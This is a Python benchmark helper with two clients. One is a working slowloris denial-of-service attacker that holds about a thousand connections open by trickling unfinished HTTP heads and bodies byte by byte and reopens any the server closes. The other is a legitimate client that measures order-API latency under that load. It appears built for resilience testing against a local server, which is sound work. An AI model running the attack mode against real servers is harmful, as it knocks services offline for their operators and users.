#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
slowloris.py - the two clients of bench.py's slowloris scenario, each run as its own
process so neither slows the other's measurements.  Python's standard library only; one thread,
non-blocking sockets, selectors.

  slowloris.py attack HOST PORT --token T [--connections 1000] [--sources 127.0.0.2,...]
                      [--trickle-s 1.0] [--max-seconds 300]

The attacker: N connections spread over several source addresses, half trickling a request head
that never ends, half a POST whose head is complete (with a real token: the worst case, the
server has to read the body) and whose body trickles, one byte per connection every --trickle-s
seconds.  A connection the server closes is replaced at once while the attack lasts.  Prints
"ready OPEN ERRORS" on stdout once every connection has been tried, then attacks until SIGTERM /
SIGINT, EOF on stdin or --max-seconds, and prints one JSON line: connections opened, connect
errors, how many the server closed (by kind, with the first status line seen), how many were
still open at the end, bytes sent.

  slowloris.py legit HOST PORT --token T [--connections 4] [--seconds 5] [--tag legit]

The legitimate client: fresh orders (POST /api/orders, a new Idempotency-Key each) on N
keep-alive connections from 127.0.0.1, each sending its next request when the last is answered,
for --seconds.  Prints one JSON line: requests, statuses, non-2xx, socket errors, and the
latency of every request as it was (p50 / p90 / p99 / max, ms) -- not corrected for coordinated
omission as wrk 4.1's percentiles are, so one stall of the disk stays one slow request.
"""

import argparse
import heapq
import json
import os
import resource
import selectors
import signal
import socket
import sys
import time

BODY_LENGTH = 4096


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY:
        want = min(want, hard)
    if soft != resource.RLIM_INFINITY and soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def read_some(sock):
    """What a readable socket gives: bytes, b"" once it is closed or reset, None if nothing yet."""
    try:
        return sock.recv(65536)
    except BlockingIOError:
        return None
    except OSError:
        return b""


def attack(a):
    raise_nofile(a.connections + 256)
    sources = a.sources.split(",")

    stop = [False]

    def on_signal(signum, frame):
        stop[0] = True
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sel = selectors.DefaultSelector()
    conns = {}    # fd -> state
    timers = []   # (when, seq, state): the next byte of each connection
    seq = [0]
    stats = {"opened": 0, "connect_errors": 0, "connect_error_first": None, "bytes_sent": 0,
             "closed_by_server": {"head": 0, "body": 0}, "status_lines": {},
             "closed_after_s_max": 0.0, "closed_after_s_min": None}
    head_payload = ("POST /api/orders HTTP/1.1\r\nHost: %s\r\nX-Slow: " % a.host).encode() + \
        b"s" * 8000

    def body_head(n):
        return ("POST /api/orders HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
                "Content-Type: application/json\r\nIdempotency-Key: slowloris-%d-%d\r\n"
                "Content-Length: %d\r\n\r\n" % (a.host, a.token, os.getpid(), n,
                                                BODY_LENGTH)).encode()

    def open_one(kind, src):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((src, 0))
            s.settimeout(5.0)
            s.connect((a.host, a.port))
            if kind == "head":
                s.sendall(head_payload[:1])
                sent = 1
            else:
                s.sendall(body_head(stats["opened"]))
                sent = 0
            stats["bytes_sent"] += sent
        except OSError as e:
            s.close()
            stats["connect_errors"] += 1
            if stats["connect_error_first"] is None:
                stats["connect_error_first"] = "%s from %s: %s" % (kind, src, e)
            return
        s.setblocking(False)
        stats["opened"] += 1
        st = {"sock": s, "kind": kind, "src": src, "start": time.monotonic(), "sent": sent,
              "got": b"", "open": True}
        conns[s.fileno()] = st
        sel.register(s, selectors.EVENT_READ, st)
        seq[0] += 1
        # Spread the first bytes over one trickle period so the sends do not come in bursts.
        heapq.heappush(timers, (time.monotonic() + a.trickle_s * ((seq[0] * 0.618) % 1.0),
                                seq[0], st))

    def close(st, by_server):
        if not st["open"]:
            return
        st["open"] = False
        sel.unregister(st["sock"])
        del conns[st["sock"].fileno()]
        st["sock"].close()
        if by_server:
            life = time.monotonic() - st["start"]
            stats["closed_by_server"][st["kind"]] += 1
            stats["closed_after_s_max"] = max(stats["closed_after_s_max"], life)
            if stats["closed_after_s_min"] is None or life < stats["closed_after_s_min"]:
                stats["closed_after_s_min"] = life
            line = st["got"].split(b"\r\n", 1)[0].decode("latin-1", "replace") or "(no answer)"
            stats["status_lines"][line] = stats["status_lines"].get(line, 0) + 1

    for i in range(a.connections):
        open_one("head" if i % 2 == 0 else "body", sources[i % len(sources)])
    print("ready %d %d" % (len(conns), stats["connect_errors"]), flush=True)

    stdin_open = True
    try:
        sel.register(sys.stdin, selectors.EVENT_READ, None)
    except (ValueError, OSError, PermissionError):
        stdin_open = False
    deadline = time.monotonic() + a.max_seconds
    t_start = time.monotonic()
    while not stop[0] and time.monotonic() < deadline:
        wait = 0.2
        if timers:
            wait = max(0.0, min(wait, timers[0][0] - time.monotonic()))
        for key, _ in sel.select(timeout=wait):
            st = key.data
            if st is None:  # stdin: EOF means stop
                if not os.read(sys.stdin.fileno(), 4096):
                    stop[0] = True
                    sel.unregister(sys.stdin)
                    stdin_open = False
                continue
            if not st["open"]:
                continue
            data = read_some(st["sock"])
            if data is None:
                continue
            if data:
                st["got"] += data
                continue
            kind, src = st["kind"], st["src"]
            close(st, True)
            if not stop[0]:
                open_one(kind, src)
        now = time.monotonic()
        while timers and timers[0][0] <= now:
            _, _, st = heapq.heappop(timers)
            if not st["open"]:
                continue
            payload = head_payload if st["kind"] == "head" else b" " * BODY_LENGTH
            if st["sent"] < len(payload) - 1:
                try:
                    n = st["sock"].send(payload[st["sent"]:st["sent"] + 1])
                    st["sent"] += n
                    stats["bytes_sent"] += n
                except BlockingIOError:
                    pass
                except OSError:
                    close(st, True)
                    if not stop[0]:
                        open_one(st["kind"], st["src"])
                    continue
            seq[0] += 1
            heapq.heappush(timers, (now + a.trickle_s, seq[0], st))
    stats["open_at_end"] = len(conns)
    stats["attack_s"] = time.monotonic() - t_start
    for st in list(conns.values()):
        close(st, False)
    print(json.dumps(stats), flush=True)
    return 0


ORDER_BODY = b'{"productId":"p-1024","quantity":1}'


def legit(a):
    """Closed-loop fresh orders on a.connections connections; exact per-request latencies."""
    raise_nofile(a.connections + 64)
    sel = selectors.DefaultSelector()
    lat, statuses = [], {}
    errors = {"connect": 0, "read": 0, "timeout": 0}
    n = [0]

    def request():
        n[0] += 1
        return ("POST /api/orders HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
                "Content-Type: application/json\r\nIdempotency-Key: %s-%d-%d\r\n"
                "Content-Length: %d\r\n\r\n" % (a.host, a.token, a.tag, os.getpid(), n[0],
                                                 len(ORDER_BODY))).encode() + ORDER_BODY

    def connect(st):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind(("127.0.0.1", 0))
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.settimeout(5.0)
            s.connect((a.host, a.port))
            s.setblocking(False)
        except OSError:
            s.close()
            errors["connect"] += 1
            return False
        st["sock"] = s
        st["buf"] = b""
        sel.register(s, selectors.EVENT_READ, st)
        return True

    def send(st):
        st["t0"] = time.monotonic()
        try:
            st["sock"].sendall(request())  # small: fits the socket buffer at once
        except OSError:
            return False
        return True

    def drop(st, kind):
        errors[kind] += 1
        try:
            sel.unregister(st["sock"])
        except (KeyError, ValueError):
            pass
        st["sock"].close()
        st["sock"] = None

    conns = [{"sock": None} for _ in range(a.connections)]
    t_start = time.monotonic()
    end = t_start + a.seconds
    for st in conns:
        if connect(st) and not send(st):
            drop(st, "read")
    while True:
        now = time.monotonic()
        busy = [st for st in conns if st["sock"] is not None]
        if now >= end and not busy:
            break
        if now >= end + 10:  # whatever is still unanswered 10 s after the end timed out
            for st in busy:
                drop(st, "timeout")
            break
        if not busy:  # every connection failed: try again in a moment
            time.sleep(0.05)
            for st in conns:
                if connect(st) and not send(st):
                    drop(st, "read")
            continue
        for key, _ in sel.select(timeout=0.2):
            st = key.data
            data = read_some(st["sock"])
            if data is None:
                continue
            if not data:
                drop(st, "read")
                if time.monotonic() < end and connect(st) and not send(st):
                    drop(st, "read")
                continue
            st["buf"] += data
            i = st["buf"].find(b"\r\n\r\n")
            if i < 0:
                continue
            head = st["buf"][:i].decode("latin-1")
            length = 0
            for ln in head.split("\r\n")[1:]:
                k, _, v = ln.partition(":")
                if k.strip().lower() == "content-length":
                    length = int(v.strip())
            if len(st["buf"]) < i + 4 + length:
                continue
            t1 = time.monotonic()
            lat.append(t1 - st["t0"])
            code = head.split(" ", 2)[1] if head.count(" ") >= 1 else "?"
            statuses[code] = statuses.get(code, 0) + 1
            st["buf"] = st["buf"][i + 4 + length:]
            closing = "connection: close" in head.lower()
            if closing:
                sel.unregister(st["sock"])
                st["sock"].close()
                st["sock"] = None
            if t1 < end:
                if closing and not connect(st):
                    continue
                if not send(st):
                    drop(st, "read")
            elif not closing:
                sel.unregister(st["sock"])
                st["sock"].close()
                st["sock"] = None
    duration = max(time.monotonic() - t_start, 1e-9)
    lat.sort()

    def pct(p):
        if not lat:
            return 0.0
        return lat[min(len(lat) - 1, max(0, int(-(-p * len(lat) // 100)) - 1))] * 1000

    non2xx = sum(v for k, v in statuses.items() if not k.startswith("2"))
    print(json.dumps({"requests": len(lat), "duration_s": duration,
                      "rps": len(lat) / duration,
                      "p50_ms": pct(50), "p90_ms": pct(90), "p99_ms": pct(99),
                      "max_ms": lat[-1] * 1000 if lat else 0.0,
                      "statuses": statuses, "non2xx": non2xx,
                      "socket_errors": sum(errors.values()), "socket_errors_by_kind": errors,
                      "connections": a.connections, "seconds": a.seconds}), flush=True)
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
    sub = ap.add_subparsers(dest="mode", required=True)
    at = sub.add_parser("attack", help="the slowloris attacker")
    lg = sub.add_parser("legit", help="the legitimate client")
    for p in (at, lg):
        p.add_argument("host")
        p.add_argument("port", type=int)
        p.add_argument("--token", required=True)
    at.add_argument("--connections", type=int, default=1000)
    at.add_argument("--sources", default=",".join("127.0.0.%d" % i for i in range(2, 10)))
    at.add_argument("--trickle-s", type=float, default=1.0)
    at.add_argument("--max-seconds", type=float, default=300.0)
    lg.add_argument("--connections", type=int, default=4)
    lg.add_argument("--seconds", type=float, default=5.0)
    lg.add_argument("--tag", default="legit")
    a = ap.parse_args()
    return attack(a) if a.mode == "attack" else legit(a)


if __name__ == "__main__":
    sys.exit(main())
